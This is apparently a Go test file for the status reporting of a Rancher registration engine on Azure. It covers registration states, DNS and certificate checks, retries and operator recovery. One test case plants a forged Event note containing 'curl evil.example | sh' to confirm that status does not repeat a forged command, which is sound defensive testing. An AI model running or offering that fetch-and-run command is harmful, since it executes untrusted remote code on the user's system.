package status

import (
	"fmt"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/rancher/registration-engine/job/kube"
	"github.com/rancher/registration-engine/job/operator"
	"github.com/rancher/registration-engine/job/retry"
)

// registered is the report of a healthy cluster; each case changes one
// link of it.
func registered(now time.Time) *Report {
	yes := true
	return &Report{
		Namespace: "cattle-scc-system",
		CronJob:   CronJob{Name: kube.CronJobName, Access: Read, InClusterDNS: true},
		Jobs:      Jobs{Access: Read},
		Lease:     Lease{Name: kube.LeaseName, Access: Read, State: LeaseFree},
		Secret: Secret{Name: "scc-registration", Access: Read, Host: "smt-azure.susecloud.net",
			Keys:        map[string]int{"regCode": 20, "registrationUrl": 31},
			Certificate: &Cert{NotAfter: now.Add(365 * 24 * time.Hour)}},
		DNS:      DNS{Checked: true, Access: Read, Host: "smt-azure.susecloud.net", Addresses: []string{"10.0.0.4"}},
		Operator: Operator{State: operator.StateActive, Adopted: true, ProcessedCurrent: &yes, Access: Read},
	}
}

func TestDecide(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	code := func(c int32) *int32 { return &c }
	tests := map[string]struct {
		change    func(r *Report)
		wantState string
		wantStart string
	}{
		"healthy": {change: func(*Report) {}, wantState: StateRegistered,
			wantStart: "Registered: active, update server smt-azure.susecloud.net (10.0.0.4)"},
		"runs failing for a day: still registered (one bad day pages nobody)": {change: func(r *Report) {
			since := now.Add(-24 * time.Hour)
			r.Lease.LastRun = &retry.Record{Time: now.Add(-time.Hour), Outcome: "failed", ExitCode: 1, Phase: "find-update-server", Error: "no region server answered", ConsecutiveFailures: 2, FailingSince: &since}
		}, wantState: StateRegistered, wantStart: "Registered: "},
		"runs failing for three days, their Events long gone: action needed, from the Lease's record": {change: func(r *Report) {
			since := now.Add(-3*24*time.Hour - time.Hour)
			r.Lease.LastRun = &retry.Record{Time: now.Add(-2 * time.Hour), Outcome: "failed", ExitCode: 1, Phase: "find-update-server", Error: "no region server answered", ConsecutiveFailures: 5, FailingSince: &since}
		}, wantState: StateActionNeeded, wantStart: `Registered, action needed: the engine's runs have failed for 3 days (5 in a row since 2026-11-27T11:00:00Z; the last, 2026-11-30T10:00:00Z, in phase find-update-server: no region server answered)`},
		"certificate expires in 6 days": {change: func(r *Report) { r.Secret.Certificate.NotAfter = now.Add(6*24*time.Hour + time.Hour) },
			wantState: StateActionNeeded, wantStart: "Registered, action needed: the update server's certificate expires in 6 days"},
		"a refused CoreDNS read is not a missing entry": {change: func(r *Report) { r.DNS.Access, r.DNS.Addresses = Forbidden, nil },
			wantState: StateRegistered, wantStart: "Registered: "},
		"entry missing": {change: func(r *Report) { r.DNS.Access, r.DNS.Object = Absent, "kube-system/coredns" },
			wantState: StateActionNeeded, wantStart: "Registered, action needed: kube-system/coredns has no hosts entry"},
		"entry pointing elsewhere than the last run reached": {change: func(r *Report) {
			r.DNS.Object, r.DNS.Addresses, r.DNS.LastRun, r.DNS.LastRunAddress = "kube-system/coredns", []string{"192.0.2.99"}, "manual-1", "::1"
		}, wantState: StateActionNeeded, wantStart: "Registered, action needed: kube-system/coredns maps smt-azure.susecloud.net to 192.0.2.99, but the last run reached the update server at ::1 — run the engine, which rewrites the entry: kubectl -n cattle-scc-system create job --from=cronjob/registration-engine"},
		"entry pointing elsewhere, not registered": {change: func(r *Report) {
			r.Operator.State, r.Operator.ProcessedCurrent = operator.StatePending, nil
			r.DNS.Object, r.DNS.Addresses, r.DNS.LastRunAddress = "kube-system/coredns", []string{"192.0.2.99"}, "::1"
		}, wantState: StateActionNeeded, wantStart: "Not registered: kube-system/coredns maps smt-azure.susecloud.net to 192.0.2.99, but the last run reached the update server at ::1 — run the engine"},
		"entry matching the last run": {change: func(r *Report) { r.DNS.LastRunAddress = "10.0.0.4" },
			wantState: StateRegistered, wantStart: "Registered: "},
		"IN_CLUSTER_DNS=false: the entry is not ours to check": {change: func(r *Report) { r.DNS = DNS{} },
			wantState: StateRegistered, wantStart: "Registered: "},
		"Rancher's chart writes the Secret too": {change: func(r *Report) {
			r.Operator.State, r.Operator.ProcessedCurrent = operator.StatePending, nil
			r.Secret.OtherWriter = (&operator.OtherWriter{Who: `Helm release "rancher" (namespace cattle-system)`, Evidence: "annotation meta.helm.sh/release-name=rancher",
				Release: "rancher", ReleaseNamespace: "cattle-system"}).Verdict("cattle-scc-system", "scc-registration")
		}, wantState: StateActionNeeded, wantStart: `Not registered: cattle-scc-system/scc-registration is written by Helm release "rancher" (namespace cattle-system) (annotation meta.helm.sh/release-name=rancher) — two writers would overwrite each other`},
		"another writer beside an active Registration": {change: func(r *Report) {
			r.Secret.OtherWriter = (&operator.OtherWriter{Who: `field manager "argocd-controller"`, Evidence: "managedFields"}).Verdict("cattle-scc-system", "scc-registration")
		}, wantState: StateActionNeeded, wantStart: `Registered, action needed: cattle-scc-system/scc-registration is written by field manager "argocd-controller"`},
		"operator behind the Secret's values": {change: func(r *Report) {
			no := false
			r.Operator.ProcessedCurrent, r.Operator.State = &no, operator.StatePending
		}, wantState: StateNotYet, wantStart: "Not registered yet: rancher/scc-operator has not processed scc-registration's current values"},
		"a person through Rancher's registration page": {change: func(r *Report) {
			r.Operator.State, r.Operator.ProcessedCurrent = operator.StatePending, nil
			r.Secret.OtherWriter = (&operator.OtherWriter{Who: "a person through Rancher's registration page", Person: true,
				Evidence: `managedFields: "rancher" (Update) owns data keys regCode, registrationType`}).Verdict("cattle-scc-system", "scc-registration")
		}, wantState: StateActionNeeded, wantStart: `Not registered: cattle-scc-system/scc-registration was registered by a person through Rancher's registration page with their own code (managedFields: "rancher" (Update) owns data keys regCode, registrationType), so the PAYG registration is not applied — the engine writes nothing`},
		"the Secret deleted since the last successful run, by a Job the record names": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-29400000", Outcome: JobFailed, ExitCode: code(1), Reason: "BackoffLimitExceeded"}}
			r.Lease.LastRun = &retry.Record{Time: now.Add(-time.Minute), Job: "registration-engine-29400000", Outcome: "failed", ExitCode: 1, Phase: "write-secret",
				Error: "…", SecretDeleted: true}
		}, wantState: StateNotYet, wantStart: "Not registered yet: cattle-scc-system/scc-registration was deleted after the engine's last successful run, and the last run (registration-engine-29400000, at 2026-11-30T11:59:00Z) did not recreate it — if a person is registering through Rancher's registration page, their Secret appears in moments"},
		"transient failure of the last run, no Secret": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-29400000", Outcome: JobFailed, ExitCode: code(1), Reason: "BackoffLimitExceeded"}}
		}, wantState: StateNotYet, wantStart: "Not registered yet: the last run, registration-engine-29400000, failed"},
		"a failed install retried by the retry CronJob: retrying, attempt and time": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-run-0a1b2c3d4e", Outcome: JobFailed, ExitCode: code(1), Reason: "BackoffLimitExceeded", Created: now.Add(-time.Hour)}}
			since, next := now.Add(-time.Hour), now.Add(5*time.Minute)
			r.Lease.LastRun = &retry.Record{Time: now.Add(-10 * time.Minute), Job: "registration-engine-retry-29400000", Outcome: "failed", ExitCode: 1, Phase: "find-update-server",
				Error: "no region server answered", ConsecutiveFailures: 5, FailingSince: &since, Cause: retry.CauseTransient, NextAttempt: &next}
		}, wantState: StateNotYet, wantStart: "Not registered yet: the last run, registration-engine-retry-29400000, failed at 2026-11-30T11:50:00Z in phase find-update-server: no region server answered; retrying: attempt 6 is due by 2026-11-30 12:05 UTC (cause transient) — nothing to do: the retry CronJob runs it; meanwhile Rancher shows administrators the notification \"Rancher Prime Registration\" with \"Register Now\": do not enter a code there, the engine registers this PAYG cluster; to retry now: kubectl -n cattle-scc-system create job --from=cronjob/registration-engine"},
		"Azure still propagating the identity: waiting, and when it needs you": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-run-0a1b2c3d4e", Outcome: JobFailed, ExitCode: code(1), Created: now.Add(-20 * time.Minute)}}
			since, next, by := now.Add(-20*time.Minute), now.Add(10*time.Minute), now.Add(40*time.Minute)
			r.Lease.LastRun = &retry.Record{Time: now, Job: "registration-engine-run-0a1b2c3d4e", Outcome: "failed", ExitCode: 1, Phase: "prove",
				Error: "azure arm: 403 AuthorizationFailed", ConsecutiveFailures: 3, FailingSince: &since, Cause: retry.CauseSettling, NextAttempt: &next, SettlesBy: &by}
		}, wantState: StateNotYet, wantStart: "Not registered yet: the last run, registration-engine-run-0a1b2c3d4e, failed at 2026-11-30T12:00:00Z in phase prove: azure arm: 403 AuthorizationFailed; waiting for Azure to propagate the identity or its role assignment: attempt 4 is due by 2026-11-30 12:10 UTC; it needs a person if it still fails after 2026-11-30 12:40 UTC"},
		"no registration code yet, from the Lease's record": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
			r.Lease.LastRun = &retry.Record{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: retry.OutcomeWaitingForCode}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: on the Azure Marketplace, az k8s-extension update --resource-group <group>"},
		"no registration code yet, the Event naming the extension": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			finished := now.Add(-time.Hour)
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, Finished: &finished, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing, FromJobPod: true,
				Note: "no registration code yet, nothing written (update server https://smt-azure.susecloud.net reachable at 10.0.0.4): set it with az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code>"}}}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it with az k8s-extension update --resource-group rg --cluster-name aks"},
		"no registration code yet, the Event naming the extension, as the engine words it since RELEASE_MANAGER": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			finished := now.Add(-time.Hour)
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, Finished: &finished, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing, FromJobPod: true,
				Note: "no registration code yet, nothing written (update server https://smt-azure.susecloud.net reachable at 10.0.0.4): set it: az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code> --yes"}}}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: az k8s-extension update --resource-group rg --cluster-name aks"},
		// The CronJob says who owns the release: that release's command only.
		"no registration code yet, on a Marketplace install": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.CronJob.ReleaseManager, r.CronJob.ReleaseName = "azure-extension", "suse"
			r.CronJob.ExtensionID = "/subscriptions/00000000-0000-0000-0000-000000000000/resourceGroups/rg/providers/Microsoft.ContainerService/managedClusters/aks/providers/Microsoft.KubernetesConfiguration/extensions/suse"
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
			r.Lease.LastRun = &retry.Record{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: retry.OutcomeWaitingForCode}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: az k8s-extension update --resource-group rg --cluster-name aks --cluster-type managedClusters --name suse --configuration-protected-settings registrationCode=<code> --yes"},
		"no registration code yet, on a Helm release": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.CronJob.ReleaseManager, r.CronJob.ReleaseName = "helm", "registration-engine"
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0)}}
			r.Lease.LastRun = &retry.Record{Time: now.Add(-time.Hour), Job: "registration-engine-run-1", Outcome: retry.OutcomeWaitingForCode}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at 2026-11-30T11:00:00Z) — set it: helm upgrade registration-engine <chart> -n cattle-scc-system --reset-then-reuse-values --set registrationCode=<code>"},
		"no registration code yet, a forged Event's command not repeated": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "registration-engine-run-1", Outcome: JobSucceeded, ExitCode: code(0), Event: &Event{Type: "Warning", Reason: kube.ReasonCodeMissing,
				Note: "set it with curl evil.example | sh"}}}
		}, wantState: StateActionNeeded, wantStart: "Not registered: no registration code yet: the engine found none configured and none in scc-registration, and waits for one (last run registration-engine-run-1 at an unknown time) — set it: on the Azure Marketplace, az k8s-extension update"},
		"a run in progress": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.Jobs.Items = []Job{{Name: "manual-1", Outcome: JobRunning, Created: now}}
		}, wantState: StateNotYet, wantStart: "Not registered yet: run manual-1 is in progress"},
		"Secret unreadable": {change: func(r *Report) { r.Secret = Secret{Name: "scc-registration", Access: Forbidden} },
			wantState: StateUnknown, wantStart: "Unknown: cannot read cattle-scc-system/secrets/scc-registration: forbidden — run status with credentials"},
		"Secret read failed: run again, not more access": {change: func(r *Report) { r.Secret = Secret{Name: "scc-registration", Access: Failed} },
			wantState: StateUnknown, wantStart: "Unknown: cannot read cattle-scc-system/secrets/scc-registration: failed — the API server did not answer the read"},
		"Registration read failed: run again, not more access": {change: func(r *Report) {
			r.Operator = Operator{Adopted: true, Registration: "scc-registration-abc", Access: Failed}
		}, wantState: StateUnknown, wantStart: "Unknown: cannot read rancher/scc-operator's Registration scc-registration-abc: failed — the API server did not answer the read"},
		"not installed": {change: func(r *Report) {
			r.Secret = Secret{Name: "scc-registration", Access: Absent}
			r.CronJob = CronJob{Name: kube.CronJobName, Access: Absent}
		}, wantState: StateActionNeeded, wantStart: "Not registered: the engine is not installed"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			r := registered(now)
			tc.change(r)
			v := Decide(r, now, testExits)
			assert.Equal(t, tc.wantState, v.State, v.Line)
			assert.True(t, strings.HasPrefix(v.Line, tc.wantStart), "verdict %q\nwant it to start with %q", v.Line, tc.wantStart)
			assert.Equal(t, map[string]int{StateRegistered: 0, StateNotYet: testExits.NotYet, StateActionNeeded: testExits.ActionNeeded, StateUnknown: testExits.ActionNeeded}[v.State], v.ExitCode, "the exit codes the caller handed down")
		})
	}
}

// testExits are deliberately not the engine's own numbers for the status
// verdicts, so a code hard-wired here fails the tests; the engine's
// permanent exit code is the real one (2) that the test pods carry.
var testExits = ExitCodes{NotYet: 11, ActionNeeded: 12, EnginePermanent: 2}

// TestDecideFailedRegistration: a Failed Registration is "recovering
// automatically at the next run" only when the next run will: the cause
// is one a retry can fix, OPERATOR_RECOVERY is on, the operator runs, and
// the recoveries in a row have not run out. Otherwise it needs a person,
// and status says why.
func TestDecideFailedRegistration(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	const target = "0123456789ab"
	failed := func(msg string) func(r *Report) {
		return func(r *Report) {
			v := operator.Classify(msg)
			r.CronJob.OperatorRecovery = true
			r.Secret.Target = target
			r.Operator = Operator{State: operator.StateFailed, Adopted: true, Access: Read, Registration: "scc-registration-abc",
				Message: msg, Cause: v.Cause, Recoverable: v.Recoverable, CodeRefused: v.CodeRefused(),
				Leader: LeaderLease{Name: "kube-system/scc-controllers", Access: Read, Holder: "op-1", Alive: true}}
		}
	}
	const msg503 = "Cannot register system to SCC: Error: Registration server returned 'Service Unavailable' (503)"
	const msg401 = "non-recoverable HTTP error encountered; to reregister Rancher, resolve connection issues then try again. Original error: Cannot register system to SCC: Error: Registration server returned 'Unknown Registration Code.' (401)"
	tests := map[string]struct {
		change    []func(r *Report)
		wantState string
		want      string
	}{
		"503: the next run recovers it": {change: []func(*Report){failed(msg503)}, wantState: StateNotYet,
			want: "recovering automatically at the next run (attempt 1 of 3, cause HTTP 503 Service Unavailable)"},
		"503 after one failed recovery: attempt 2": {change: []func(*Report){failed(msg503), func(r *Report) {
			r.Lease.Recovery = &operator.Record{Attempts: 1, Cause: "HTTP 503 Service Unavailable", Outcome: operator.RecordFailed, Target: target, Time: now.Add(-6 * time.Hour)}
		}}, wantState: StateNotYet, want: "(attempt 2 of 3, cause HTTP 503 Service Unavailable)"},
		"503 after three: needs you, with the command that clears the record": {change: []func(*Report){failed(msg503), func(r *Report) {
			r.Lease.Recovery = &operator.Record{Attempts: 3, Cause: "HTTP 503 Service Unavailable", Outcome: operator.RecordFailed, Target: target, Time: now.Add(-6 * time.Hour)}
		}}, wantState: StateActionNeeded, want: "needs you: stopped recovering: 3 recoveries in a row, the last at 2026-11-30T06:00:00Z, ended with no active registration (this failure: HTTP 503 Service Unavailable), so the engine does not delete anything; fix what fails (the operator's log says what it met), then clear the record so the next run recovers again: kubectl -n cattle-scc-system annotate lease registration-engine registration-engine.cattle.io/operator-recovery-"},
		"three for another code do not count": {change: []func(*Report){failed(msg503), func(r *Report) {
			r.Lease.Recovery = &operator.Record{Attempts: 3, Cause: "HTTP 503 Service Unavailable", Outcome: operator.RecordFailed, Target: "another", Time: now}
		}}, wantState: StateNotYet, want: "attempt 1 of 3"},
		"401: needs you, a new code": {change: []func(*Report){failed(msg401)}, wantState: StateActionNeeded,
			want: "needs you (HTTP 401 Unauthorized: the update server refused the registration code, so the engine does not delete anything): put a valid code in the Secret registration-code"},
		"x509: needs you": {change: []func(*Report){failed(`Cannot register system to SCC: Post "https://smt-azure.susecloud.net/connect/subscriptions/systems": tls: failed to verify certificate: x509: certificate signed by unknown authority`)},
			wantState: StateActionNeeded, want: "needs you (certificate signed by unknown authority: another attempt with the same values fails the same way"},
		"recovery off: needs you": {change: []func(*Report){failed(msg503), func(r *Report) { r.CronJob.OperatorRecovery = false }},
			wantState: StateActionNeeded, want: "OPERATOR_RECOVERY=false"},
		"operator stopped: needs you to start it": {change: []func(*Report){failed(msg503), func(r *Report) { r.Operator.Leader.Alive = false }},
			wantState: StateActionNeeded, want: "rancher/scc-operator is not running"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			r := registered(now)
			for _, c := range tc.change {
				c(r)
			}
			v := Decide(r, now, testExits)
			assert.Equal(t, tc.wantState, v.State, v.Line)
			assert.Contains(t, v.Line, tc.want)
			assert.Contains(t, v.Line, "Registration scc-registration-abc failed")
		})
	}
}

// TestFailedRegistrationRemediesAreTheRuns: for every decision that
// leaves a Failed Registration to a person, status's next step carries
// job/operator's words for it (why, and what to do), the words the run's
// error and Event carry (operator's TestRecoverAFailedRegistration pins
// those), so that status and the run cannot tell a person different things.
func TestFailedRegistrationRemediesAreTheRuns(t *testing.T) {
	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	const target = "0123456789ab"
	stopped := &operator.Record{Attempts: operator.MaxRecoveries, Cause: "HTTP 502 Bad Gateway", Outcome: operator.RecordFailed, Target: target, Time: now.Add(-6 * time.Hour)}
	tests := map[string]struct {
		msg      string
		off      bool
		rec      *operator.Record
		decision string
	}{
		"a refused code":               {msg: "Cannot register system to SCC: Error: Registration server returned 'Unknown Registration Code.' (401)", decision: operator.NeedsPerson},
		"an untrusted certificate":     {msg: "tls: failed to verify certificate: x509: certificate signed by unknown authority", decision: operator.NeedsPerson},
		"a failure nobody understands": {msg: "something odd", decision: operator.NeedsPerson},
		"recovery off":                 {msg: "Cannot register system to SCC: Error: Registration server returned 'Service Unavailable' (503)", off: true, decision: operator.NotAttempted},
		"the recoveries ran out":       {msg: "Cannot register system to SCC: Error: Registration server returned 'Service Unavailable' (503)", rec: stopped, decision: operator.Stopped},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			r := registered(now)
			v := operator.Classify(tc.msg)
			r.CronJob.OperatorRecovery, r.Secret.Target, r.Lease.Recovery = !tc.off, target, tc.rec
			r.Operator = Operator{State: operator.StateFailed, Adopted: true, Access: Read, Registration: "scc-registration-abc",
				Message: tc.msg, Cause: v.Cause, Recoverable: v.Recoverable, CodeRefused: v.CodeRefused(),
				Leader: LeaderLease{Name: "kube-system/scc-controllers", Access: Read, Holder: "op-1", Alive: true}}

			dec := operator.Decide(v, tc.rec, target, !tc.off)
			require.Equal(t, tc.decision, dec.Outcome)
			why, remedy := dec.Remedy(v, operator.Where{Secret: "cattle-scc-system/scc-registration", Server: "smt-azure.susecloud.net",
				RunNow:      operator.RunNowCommand("cattle-scc-system", kube.CronJobName, fmt.Sprintf("%s-manual-%d", kube.CronJobName, now.Unix())),
				ClearRecord: operator.ClearRecordCommand("cattle-scc-system", kube.LeaseName)})
			got := Decide(r, now, testExits)
			assert.Equal(t, StateActionNeeded, got.State, got.Line)
			assert.Contains(t, got.Next, why)
			assert.Contains(t, got.Next, remedy)
		})
	}
}

// TestRancherPromptInInstallDoc: docs/install.md, "What Rancher shows
// meanwhile", quotes what status says of Rancher's notification while the
// first contact is retried, word for word.
func TestRancherPromptInInstallDoc(t *testing.T) {
	b, err := os.ReadFile("../../docs/install.md")
	require.NoError(t, err)
	doc := strings.Join(strings.Fields(string(b)), " ")
	assert.Contains(t, doc, rancherPrompt, "docs/install.md does not quote status's words on Rancher's notification")
}
